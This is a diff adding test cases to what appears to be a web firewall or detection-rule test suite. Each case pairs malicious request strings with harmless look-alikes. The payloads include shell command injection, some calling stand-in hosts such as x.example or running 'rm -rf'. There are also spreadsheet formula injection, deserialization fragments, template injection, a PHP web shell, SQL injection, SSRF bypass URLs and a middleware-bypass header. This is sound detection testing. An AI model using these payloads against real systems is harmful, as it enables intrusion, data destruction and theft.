@@ -103,6 +103,128 @@ def res(answer, *, status=200, headers=()):
 
 
 CASES: list[Case] = [
+    Case(
+        1140031,
+        1,
+        [
+            arg(b";sleep 5"),
+            arg(b"1|sleep 5;"),
+            arg(b"x;ps aux"),
+            arg(b";find / -name x -exec id \\;"),
+            arg(b";scp x y@z.example:"),
+        ],
+        [arg(b"Eat well; sleep 8 hours."), arg(b"find / on your keyboard"), arg(b"a; history")],
+    ),
+    Case(
+        1140032,
+        1,
+        [
+            arg(b';c"a"t /e"t"c/hosts'),
+            arg(b"x;w`h`oami"),
+            arg(b";a=who;b=ami;$a$b"),
+            arg(b"|l's' -la"),
+        ],
+        [arg(b"fish'n'chips; rock'n'roll"), arg(b"a=1; b=$5"), arg(b"the `if` and the `for`")],
+    ),
+    Case(
+        1140033,
+        1,
+        [arg(b"x`curl x.example`"), arg(b"a.png`sleep 5`")],
+        [arg(b"the command `curl` reads"), arg(b"use`git log`")],
+    ),
+    Case(
+        1140034,
+        1,
+        [req(b"/ping/$(whoami)"), req(b"/a%7Cid"), req(agent=b"x`curl x.example`")],
+        [req(b"/a$(b)"), req(b"/cat/ls"), req(agent=b"Mozilla/5.0 (compatible; curl; id)")],
+    ),
+    Case(
+        1140035,
+        1,
+        [req(b"/ping/127.0.0.1;curl%20x.example"), req(b"/a&rm%20-rf%20x")],
+        [req(b"/a;ping=1"), req(b"/salt&php%20"), req(b"/touch%20me")],
+    ),
+    Case(
+        1140036,
+        1,
+        [arg(b"=cmd|' /C calc'!A0"), arg(b"a,@SUM(1+1)*cmd|' /C calc'!A0")],
+        [arg(b"=SUM(A1:A9)"), arg(b"cmd | grep"), arg(b"-1|2")],
+    ),
+    Case(
+        1150023,
+        1,
+        [
+            body(b"--- !ruby/object:Gem::Installer\ni: x", b"application/x-yaml"),
+            arg(b"cos%0Asystem%0A(S'id'"),
+        ],
+        [arg(b"ruby/object"), arg(b"a%0Acost%0Ab")],
+    ),
+    Case(
+        1150024,
+        1,
+        [
+            req(b"/a/%7B%7B7*7%7D%7D"),
+            req(b"/%7B%7Bconfig%7D%7D"),
+            req(agent=b"{% debug %}"),
+            req(agent=b"<?php system($_GET[1]); ?>"),
+        ],
+        [req(b"/img/%7B%7Bitem.url%7D%7D"), req(b"/config"), req(b"/%7Bid%7D")],
+    ),
+    Case(
+        1150025,
+        1,
+        [arg(b'{{_self.env.registerUndefinedFilterCallback("exec")}}')],
+        [arg(b"{{ itself }}"), arg(b"_self.env")],
+    ),
+    Case(
+        1150026,
+        1,
+        [body(b"\xac\xed\x00\x05sr\x00\x11java", b"application/x-java-serialized-object")],
+        [body(b"\xac\xed\x00\x06sr", b"application/x-java-serialized-object")],
+    ),
+    Case(
+        1150027,
+        1,
+        [arg(b'{"constructor":{"prototype":{"admin":true}}}')],
+        [arg(b'{"constructor":{"name":"prototype"}}')],
+    ),
+    Case(
+        1160023,
+        1,
+        [
+            arg(b"1 union values row(1,2)"),
+            arg(b"1 union table users"),
+            arg(b"x' union/**/values(1)"),
+        ],
+        [arg(b"the union values (some of them) its members"), arg(b"a union table")],
+    ),
+    Case(
+        1130026,
+        1,
+        [
+            arg(b"http:\\\\127.0.0.1\\"),
+            arg("http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/".encode()),
+            arg(b"http://localtest.me/"),
+            arg(b"unix:/var/run/docker.sock"),
+        ],
+        [
+            arg(b"http://latest.me/"),
+            arg("see http://a.example/ ①".encode()),
+            arg(b"unix: a system"),
+        ],
+    ),
+    Case(
+        1170017,
+        1,
+        [arg(b'<esi:include src="http://x.example/"/>'), arg(b"top['al'+'ert'](1)")],
+        [arg(b"<esi>"), arg(b"top['a']"), arg(b"window[a + b]")],
+    ),
+    Case(
+        1180014,
+        1,
+        [req(headers=[(b"X-Middleware-Subrequest", b"middleware")])],
+        [req(headers=[(b"X-Middleware", b"1"), (b"X-Middleware-Prefetch", b"1")])],
+    ),
     Case(1110001, 1, [req(method=b"TRACE")], [req(method=b"PATCH")]),
     Case(1110002, 1, [req(version="HTTP/3.7")], [req(version="HTTP/2.0")]),
     Case(1110003, 1, [req(host=None)], [req(host=b"a.example")]),
